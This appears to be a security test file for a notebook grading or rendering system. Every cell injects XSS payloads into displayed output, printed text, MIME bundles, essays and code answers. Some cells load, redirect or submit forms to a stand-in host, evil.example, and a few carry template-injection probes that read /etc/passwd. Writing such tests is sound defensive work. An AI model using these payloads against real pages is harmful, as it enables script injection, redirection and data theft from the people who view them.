# %% script-in-html-output
# tries: outputs of HTML with scripts and handlers, which whoever opens the page would run
# base: solution
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
display(HTML("<script>alert('THE_MARK')</script><img src=x onerror=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe>"))
display(Javascript("alert('THE_MARK')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><a href='javascript:alert(1)'><text>x</text></a></svg>"))
display(Markdown("<script>alert(1)</script> [click](javascript:alert(1)) ![x](x\" onerror=\"alert(1))"))
display(Latex(r"$\href{javascript:alert(1)}{x}$"))
print("tried")

# %% script-in-printed-text
# tries: text, errors and names that close the page's own elements and open others
# base: solution
import sys
print("</pre></section><script>alert('THE_MARK')</script><pre onmouseover=alert(1)>")
print("\x1b[31m<svg onload=alert(1)>\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", file=sys.stderr)
print("tried")
raise type("<img src=x onerror=alert(1)>", (Exception,), {})("<script>alert(1)</script>{{7*7}}{% raw %}")

# %% script-in-a-mime-bundle
# tries: bundles of every type that some viewer runs, and types that break out of an attribute
# base: solution
from IPython.display import publish_display_data as publish
publish({"text/html": "<body onload=alert(1)>", "text/plain": "<script>alert(1)</script>"})
publish({"application/vnd.jupyter.widget-view+json": {"model_id": "\"><script>alert(1)</script>"}, "text/plain": "x"})
publish({"image/png": "\"><script>alert('THE_MARK')</script>", "text/plain": "x"})
publish({"image/svg+xml": ["<svg xmlns='http://www.w3.org/2000/svg'>", "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>"]})
publish({"text/markdown": "<style>body{background:url(http://evil.example/)}</style>"})
publish({"application/javascript": "alert(1)", "text/x-\"><script>alert(1)</script>": "x"})
publish({"text/html": "<base href='http://evil.example/'><form action='http://evil.example/'><input name=p><meta http-equiv=refresh content='0;url=http://evil.example/'>"})
print("tried")

# %% script-in-the-essay
# tries: a written answer with scripts, handlers, frames, forms and links that run
# base: solution
# cell: essay
<script>alert('THE_MARK')</script>
<img src=x onerror="alert(1)"> <svg/onload=alert(1)> <details open ontoggle=alert(1)>
[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d]( javascript:alert(1)) [e](vbscript:x)
<a href="java&#10;script:alert(1)">x</a> <javascript:alert(1)> <https://ok.example"onmouseover="alert(1)>
![x](https://evil.example/pixel.png) ![y](javascript:alert(1)) ![z](x"onerror="alert(1))
<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src="x"><link rel=stylesheet href="//evil.example/x.css">
<style>@import url(//evil.example/x.css);</style> <form action="//evil.example"><input></form> <meta http-equiv="refresh" content="0;url=//evil.example">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
`</code><script>alert(1)</script>` 
```"><script>alert(1)</script>
x
```
# heading <script>alert(1)</script>
[ref]: javascript:alert(1)
[ref] <!-- --><script>alert(1)</script> {{7*7}} {% include "/etc/passwd" %}

# %% script-in-code
# tries: an answer whose source closes the page's elements
# base: solution
# cell: double-solution
def double(x):
    "</span></pre><script>alert('THE_MARK')</script><pre>"  # <img src=x onerror=alert(1)>
    return 2 * x

# %% script-in-a-result
# tries: a result that the check's message repeats on the feedback page
# base: no-square
# cell: square-solution
def square(x): return "<script>alert('THE_MARK')</script><img src=x onerror=alert(1)>\u202e"

# %% link-in-a-hidden-picture
# tries: an SVG that loads from elsewhere and runs, as an image of a cell
# base: solution
from IPython.display import SVG, display
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='http://evil.example/x.png'/><script href='http://evil.example/x.js'/><style>@import 'http://evil.example/x.css';</style><animate onbegin='alert(1)'/></svg>"))
print("tried")
